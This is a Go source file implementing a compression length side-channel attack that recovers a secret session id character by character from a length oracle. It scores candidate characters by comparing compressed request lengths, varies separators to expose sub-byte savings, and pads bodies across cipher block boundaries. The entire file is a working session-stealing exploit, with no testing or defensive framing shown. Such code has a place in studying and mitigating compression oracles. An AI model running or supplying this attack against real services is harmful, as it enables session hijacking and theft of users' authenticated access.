package compress

import (
	"context"
	"fmt"
	"io"
	"log/slog"
)

// Alphabet is the set of characters a session id is drawn from.
const Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="

// LengthOracle returns the observed length for a request body.
type LengthOracle func(body []byte) (int, error)

const (
	variants    = 8
	maxVariants = 32
)

// RecoverSession recovers an n character session id one character at a time.
//
// A guess is scored by comparing a body where the candidate extends the
// known prefix against one where it is separated from it by a few
// incompressible bytes. Only the right candidate lengthens the back reference
// into the header. Varying the separator shifts the bit alignment so that
// sub-byte savings show up in the sum, and for block ciphers a filler is
// grown until the separated body sits just past a block boundary.
func RecoverSession(ctx context.Context, oracle LengthOracle, mode Mode, n int, logger *slog.Logger) (string, error) {
	if logger == nil {
		logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	}

	known := []byte(Marker)

	for len(known) < len(Marker)+n {
		if err := ctx.Err(); err != nil {
			return "", fmt.Errorf("recovering session: %w", err)
		}

		next, err := nextChar(oracle, mode, known)
		if err != nil {
			return "", err
		}

		known = append(known, next)

		logger.Debug("recovered session byte", "mode", mode, "known", string(known[len(Marker):]))
	}

	return string(known[len(Marker):]), nil
}

func nextChar(oracle LengthOracle, mode Mode, known []byte) (byte, error) {
	for count := variants; ; count *= 2 {
		best, tied := byte(0), false
		bestScore := 0

		for i := range len(Alphabet) {
			c := Alphabet[i]

			score, err := scoreGuess(oracle, mode, known, c, count)
			if err != nil {
				return 0, err
			}

			switch {
			case i == 0 || score < bestScore:
				best, bestScore, tied = c, score, false
			case score == bestScore:
				tied = true
			}
		}

		if !tied || count >= maxVariants {
			return best, nil
		}
	}
}

func scoreGuess(oracle LengthOracle, mode Mode, known []byte, c byte, count int) (int, error) {
	score := 0

	for _, tail := range tails(known) {
		for v := range count {
			hit := concat(tail, []byte{c}, separator(v))
			miss := concat(tail, separator(v), []byte{c})

			fill, err := boundary(oracle, mode, miss)
			if err != nil {
				return 0, err
			}

			a, err := oracle(concat(fill, hit))
			if err != nil {
				return 0, err
			}

			b, err := oracle(concat(fill, miss))
			if err != nil {
				return 0, err
			}

			score += a - b
		}
	}

	return score, nil
}

// tails returns the full known prefix and two shorter suffixes of it.
func tails(known []byte) [][]byte {
	out := [][]byte{known}

	for _, n := range []int{12, 6} {
		if len(known) > n {
			out = append(out, known[len(known)-n:])
		}
	}

	return out
}

// boundary grows a filler until body crosses the next block boundary.
func boundary(oracle LengthOracle, mode Mode, body []byte) ([]byte, error) {
	size := mode.BlockSize()
	if size == 1 {
		return nil, nil
	}

	base, err := oracle(body)
	if err != nil {
		return nil, err
	}

	for n := 1; n <= 2*size; n++ {
		fill := filler(n)

		length, err := oracle(concat(fill, body))
		if err != nil {
			return nil, err
		}

		if length > base {
			return fill, nil
		}
	}

	return nil, nil
}

// separator returns v+1 distinct bytes that never occur in the request headers.
func separator(v int) []byte {
	out := make([]byte, v%8+1+v/8)
	for i := range out {
		out[i] = byte(0x80 + i%32)
	}

	return out
}

func filler(n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = byte(0xa0 + i)
	}

	return out
}

func concat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}

	return out
}
